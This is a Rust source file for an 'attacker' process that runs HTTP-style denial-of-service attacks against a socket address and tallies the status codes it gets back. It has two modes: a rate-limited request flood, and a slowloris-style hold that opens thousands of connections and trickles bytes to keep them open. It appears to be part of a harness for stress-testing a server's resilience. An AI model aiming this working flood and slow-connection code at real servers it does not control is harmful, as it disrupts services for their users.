//! The attacker: a process that attacks until its stdin is closed, and then prints the answers that it got.

use std::collections::BTreeMap;
use std::io::Read as _;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout};

use crate::attacks::{Attack, Manner, PIECE_EVERY};

/// Connections opened in a second at most by what holds many.
const OPENED_PER_SECOND: u32 = 8000;
/// Before a closed connection is opened again.
const PAUSE: Duration = Duration::from_millis(100);

/// How often which status was answered; `closed` where there was none.
type Answers = Arc<Mutex<BTreeMap<String, usize>>>;

/// Makes `attack` on `at`.
pub async fn run(attack: Attack, at: SocketAddr) {
    let (answers, open) = (Answers::default(), Arc::new(AtomicUsize::new(0)));
    let mut attackers = JoinSet::new();
    let began = Instant::now();
    match attack.manner() {
        Manner::Flood { request, per_second, connections } => {
            let (request, turn): (Arc<[u8]>, _) = (request.into(), Arc::new(AtomicU32::new(0)));
            for _ in 0..connections {
                attackers.spawn(flood(at, request.clone(), per_second, turn.clone(), answers.clone()));
            }
        }
        Manner::Hold { connections, begin, piece } => {
            let begin: Arc<[u8]> = begin.into();
            for number in (0_u32..).take(connections) {
                sleep_until(began + Duration::from_secs(1) * number / OPENED_PER_SECOND).await;
                attackers.spawn(hold(at, begin.clone(), piece, answers.clone(), open.clone()));
            }
        }
    }
    let ended = tokio::task::spawn_blocking(|| std::io::stdin().read_to_end(&mut Vec::new()));
    ended.await.unwrap().unwrap();
    let lasted = began.elapsed().as_secs_f64();
    let open = open.load(Ordering::Relaxed);
    let answers = answers.lock().unwrap();
    let counts: Vec<String> = answers.iter().map(|(status, count)| format!("{count} × {status}")).collect();
    let per_second = answers.values().sum::<usize>() as f64 / lasted;
    println!("{open} open at the end; {} ({per_second:.0}/s)", counts.join(", "));
}

async fn flood(at: SocketAddr, request: Arc<[u8]>, per_second: u32, turn: Arc<AtomicU32>, answers: Answers) {
    let began = Instant::now();
    let mut stream = None;
    loop {
        if per_second > 0 {
            let turn = turn.fetch_add(1, Ordering::Relaxed);
            sleep_until(began + Duration::from_secs(1) * turn / per_second).await;
        }
        if stream.is_none() {
            stream = TcpStream::connect(at).await.ok();
        }
        let Some(connected) = stream.as_mut() else { continue };
        connected.write_all(&request).await.ok();
        let (status, open) = answer(connected).await;
        *answers.lock().unwrap().entry(status).or_default() += 1;
        if !open {
            stream = None;
        }
    }
}

/// The status of one answer, and whether another may follow it.
async fn answer(stream: &mut TcpStream) -> (String, bool) {
    let mut heard = Vec::new();
    while !heard.ends_with(b"}") {
        if stream.read_buf(&mut heard).await.unwrap_or(0) == 0 {
            break;
        }
    }
    let text = String::from_utf8_lossy(&heard);
    let status = text.split(' ').nth(1).unwrap_or("closed").to_owned();
    let stays = heard.ends_with(b"}") && !text.contains("connection: close");
    (status, stays)
}

async fn hold(
    at: SocketAddr,
    begin: Arc<[u8]>,
    piece: &'static [u8],
    answers: Answers,
    open: Arc<AtomicUsize>,
) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(at).await {
            open.fetch_add(1, Ordering::Relaxed);
            let status = dawdle(&mut stream, &begin, piece).await;
            open.fetch_sub(1, Ordering::Relaxed);
            *answers.lock().unwrap().entry(status).or_default() += 1;
        }
        sleep(PAUSE).await;
    }
}

/// Says `begin`, then `piece` after `piece`, until there is an answer.
async fn dawdle(stream: &mut TcpStream, begin: &[u8], piece: &'static [u8]) -> String {
    stream.write_all(begin).await.ok();
    loop {
        let mut heard = Vec::new();
        match timeout(PIECE_EVERY, stream.read_buf(&mut heard)).await {
            Err(_) => stream.write_all(piece).await.ok(),
            Ok(_) => return String::from_utf8_lossy(&heard).split(' ').nth(1).unwrap_or("closed").to_owned(),
        };
    }
}
